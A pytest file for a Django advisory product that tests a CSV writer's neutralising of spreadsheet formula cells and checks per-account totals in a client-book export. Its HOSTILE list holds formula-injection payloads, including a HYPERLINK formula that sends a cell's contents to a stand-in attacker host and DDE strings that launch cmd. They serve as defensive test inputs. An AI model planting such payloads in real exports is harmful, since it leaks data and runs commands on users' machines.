"""Safe exports (issue 9): every CSV the product writes goes through one writer that
neutralizes formula cells (=, +, -, @, tab, CR) while numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts.models import Account, Client
from pma_engine.csv_safe import cell_safe, csv_safe_writer
from tests.lots.test_trades import opening

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_an_apostrophe(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Decimal("-12.50"), Decimal("-12.50")),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        (7, 7),
        (None, ""),
        ("Smith household", "Smith household"),
        ("a=b", "a=b"),
    ],
)
def test_numbers_stay_numbers_and_plain_text_is_untouched(value, expected):
    assert cell_safe(value) == expected


def test_the_writer_applies_it_to_every_cell():
    out = io.StringIO()
    csv_safe_writer(out).writerow(["=1+1", Decimal("-3.00"), "-3.00", "ok"])
    assert out.getvalue() == "'=1+1,-3.00,-3.00,ok\n"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a plain number may start so


def test_the_client_book_export_neutralizes_formulas(
    client, cast, django_capture_on_commit_callbacks
):
    Client.objects.filter(pk=cast.a.client.pk).update(name=HOSTILE[3])
    Account.objects.filter(pk=cast.a.account.pk).update(name=HOSTILE[0], custodian=HOSTILE[1])
    client.force_login(cast.a.advisor)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("client-book-export"))
    from jobs.models import Job

    job = Job.objects.get()
    text = job.output.read().decode()
    cells = _cells(text)
    assert "'" + HOSTILE[3] in cells and "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells
    _assert_no_formula(cells)


def test_the_client_book_puts_each_accounts_own_value_on_its_row_with_a_total(
    client, cast, securities, django_capture_on_commit_callbacks
):
    """10 AAPL at 200 = 2,000.00 in the brokerage; 1 MSFT at 400 + 50.00 cash = 450.00 in the
    IRA; the household's other client (another advisor's) is not in this advisor's book.
    Total 2,450.00 (today every account row carried the household's 2,450.00)."""
    a = cast.a
    opening(
        cast,
        f"{a.account.account_number},AAPL,10,2020-01-02,1000.00,A1",
        f"{a.ira.account_number},MSFT,1,2020-01-02,100.00,M1",
    )
    Account.objects.filter(pk=a.account.pk).update(cash_balance=Decimal("0"))
    Account.objects.filter(pk=a.ira.pk).update(cash_balance=Decimal("50.00"))
    client.force_login(a.advisor)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("client-book-export"))
    from jobs.models import Job

    rows = list(csv.DictReader(io.StringIO(Job.objects.get().output.read().decode())))
    values = {row["account"]: row["market_value"] for row in rows}
    assert values == {"alpha brokerage": "2000.00", "alpha IRA": "450.00", "": "2450.00"}
    assert rows[-1]["household"] == "Total"
    assert sum(Decimal(r["market_value"]) for r in rows[:-1]) == Decimal(rows[-1]["market_value"])
